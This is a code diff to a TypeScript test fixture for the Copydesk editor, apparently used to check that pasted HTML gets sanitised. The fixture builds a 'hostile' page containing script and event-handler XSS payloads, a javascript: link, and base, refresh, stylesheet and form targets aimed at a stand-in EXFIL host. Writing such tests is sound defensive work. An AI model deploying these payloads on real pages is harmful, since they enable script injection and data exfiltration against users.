@@ -139,12 +139,13 @@ const OWN_MARKUP: Vector[] = [
 /** Every vector written for Copydesk (HTML on the clipboard or in a file). */
 export const EDITOR_VECTORS: readonly Vector[] = [...WORD, ...DOCS, ...LINKS, ...ELEMENTS, ...MUTATION, ...OWN_MARKUP];
 
+const paragraph = (n: number) => `<p>Paragraph ${n}: the council voted on Tuesday to run the harbour ferry at night, ending a dispute over costs that had lasted two years.</p>`;
+
 /**
  * A copied web page, long enough for the editor to send it to the article reader (an
  * empty story takes it whole), with the payloads in its head, its chrome and its article.
  */
 export function hostilePage(payloads: readonly string[], title = 'Ferry vote'): string {
-  const paragraph = (n: number) => `<p>Paragraph ${n}: the council voted on Tuesday to run the harbour ferry at night, ending a dispute over costs that had lasted two years.</p>`;
   const article = payloads.map((payload, index) => `${paragraph(index + 1)}<div class="inline-embed">${payload}</div>`).join('');
   const padding = Array.from({ length: Math.max(0, 12 - payloads.length) }, (_, index) => paragraph(payloads.length + index + 1)).join('');
   return `<!doctype html><html><head><title>${title}</title><base href="${EXFIL}/"><meta http-equiv="refresh" content="0;url=${EXFIL}/page-refresh"><script>alert('page-head')</script><link rel="stylesheet" href="${EXFIL}/page.css"></head><body onload="alert('page-body')"><nav><a href="javascript:alert('nav')">Home</a></nav><article><h1>${title}</h1>${article}${padding}</article><footer><form action="${EXFIL}/subscribe"><input autofocus onfocus="alert('footer')"></form></footer></body></html>`;
